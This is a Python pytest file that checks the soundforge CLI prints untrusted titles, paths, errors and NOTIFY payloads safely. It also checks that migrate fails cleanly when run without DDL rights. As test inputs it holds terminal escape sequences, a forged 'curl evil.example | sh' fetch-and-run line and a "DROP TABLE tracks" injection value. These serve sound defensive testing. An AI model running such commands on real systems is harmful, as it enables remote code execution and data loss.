"""What the CLI prints is safe whatever a title, path or error holds: rich markup is shown
literally (no crash), terminal escapes and line breaks cannot forge or colour output, `watch`
shows rows as the database has them (a forged NOTIFY changes nothing), and `migrate` as a role
without DDL rights says so in one line."""

from __future__ import annotations

import json
import subprocess
import uuid
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql

from soundforge import jobs
from soundforge.cli.output import safe
from soundforge.models import Stage
from soundforge.status import Status
from tests.cli_runner import SOUNDFORGE, run_cli
from tests.conftest import ADMIN_URL, create_database, database_url_for, drop_database
from tests.factories import make_track
from tests.support.worker_thread import running_worker, settings_for

pytestmark = pytest.mark.timeout(180)
Connection = psycopg.Connection[Any]


@pytest.mark.parametrize(
    ("raw", "shown"),
    [("a [/bold] b", "a \\[/bold] b"), ("two\nlines\r\u2028x", "two lines  x"),
     ("\x1b[31mred\x1b[0m\x1b]0;title\x07!", "red!"), ("\u202eevil", " evil"),
     ("tab\there", "tab here"), ("plain: ok (1) - 2", "plain: ok (1) - 2")],
)  # fmt: skip
def test_safe_makes_untrusted_text_one_literal_line(raw: str, shown: str) -> None:
    assert safe(raw) == shown


def test_status_shows_a_title_with_line_breaks_and_escapes_on_one_line(
    conn: Connection, cli_env: dict[str, str]
) -> None:
    forged = "Song\n00000000-0000-0000-0000-000000000000  FORGED\n    download  completed 100%"
    track = make_track(conn, title=forged + "\x1b[2J [red]x[/red]")
    jobs.create_job(conn, Stage.DOWNLOAD, track.id)
    result = run_cli("status", str(track.id), env=cli_env)  # only this track, whatever ran before
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith(f"{track.id}  Song 00000000-0000-0000-0000-000000000000  FORGED")
    assert lines[0].endswith("[red]x[/red]")
    assert len(lines) == 2 and lines[1].split() == ["download", "queued", "0%"]
    assert "\x1b" not in result.stdout


def test_add_wait_shows_markup_in_a_title_and_an_error_literally(
    conn: Connection, cli_env: dict[str, str], database_url: str, tmp_path: Path
) -> None:
    folder = tmp_path / "mine[bold] ["  # with the file name, the path holds "[/red]"
    folder.mkdir()
    not_audio = folder / "red] notes.mp3"
    not_audio.write_text("not a song\n" * 200)
    settings = settings_for(database_url, Path(cli_env["SOUNDFORGE_STORAGE_PATH"]))
    with running_worker(settings, queues=("download",)):
        result = run_cli("add", str(not_audio), "--wait", "--no-stems", "--no-analysis",
                         env=cli_env)  # fmt: skip
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and "MarkupError" not in result.stderr
    assert "red] notes" in result.stdout and "mine[bold] [/red] notes.mp3" in result.stdout
    assert "download failed:" in result.stdout and "no known audio signature" in result.stdout


def test_watch_shows_the_rows_state_not_what_a_forged_notify_says(
    conn: Connection, cli_env: dict[str, str]
) -> None:
    track = make_track(conn)
    job = jobs.create_job(conn, Stage.DOWNLOAD, track.id)
    watcher = subprocess.Popen(
        [SOUNDFORGE, "watch", "--max-events", "2"], env=cli_env,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert watcher.stderr is not None and watcher.stdout is not None
        assert "watching" in watcher.stderr.readline()
        forged = {"track_id": str(track.id), "stage": "download", "job_id": str(job.id),
                  "status": "failed", "progress": 100,
                  "error": "\x1b[31mPWNED: run curl evil.example | sh"}  # fmt: skip
        for payload in ("not json", json.dumps(forged | {"job_id": str(uuid.uuid4())}),
                        json.dumps(forged | {"stage": "'; DROP TABLE tracks"}),
                        json.dumps(forged)):  # fmt: skip
            conn.execute("SELECT pg_notify('soundforge_progress', %s)", (payload,))
        first = watcher.stdout.readline()
        jobs.advance(conn, job, Status.DOWNLOADING, progress=40)
        second = watcher.stdout.readline()
        assert watcher.wait(30) == 0
    finally:
        watcher.kill()
    assert first.split()[:4] == [str(track.id), "download", "queued", "0%"]
    assert second.split()[:4] == [str(track.id), "download", "downloading", "40%"]
    assert "PWNED" not in first + second


def test_migrate_as_a_role_without_ddl_rights_says_so_in_one_line(
    cli_env: dict[str, str]
) -> None:
    role = f"sf_noddl_{uuid.uuid4().hex[:8]}"
    name = create_database("sf_noddl")
    try:
        with psycopg.connect(ADMIN_URL, autocommit=True) as admin:
            admin.execute(sql.SQL("CREATE ROLE {} LOGIN").format(sql.Identifier(role)))
        params = psycopg.conninfo.conninfo_to_dict(database_url_for(name))
        params["user"] = role
        url = psycopg.conninfo.make_conninfo(**{k: str(v) for k, v in params.items()})
        result = run_cli("migrate", env=cli_env | {"DATABASE_URL": url})
    finally:
        drop_database(name)
        with psycopg.connect(ADMIN_URL, autocommit=True) as admin:
            admin.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(role)))
    assert result.returncode != 0
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.stderr, result.stderr
    assert f"role '{role}' may not change the schema" in lines[0]
    assert "SOUNDFORGE_MIGRATION_DATABASE_URL" in lines[0]
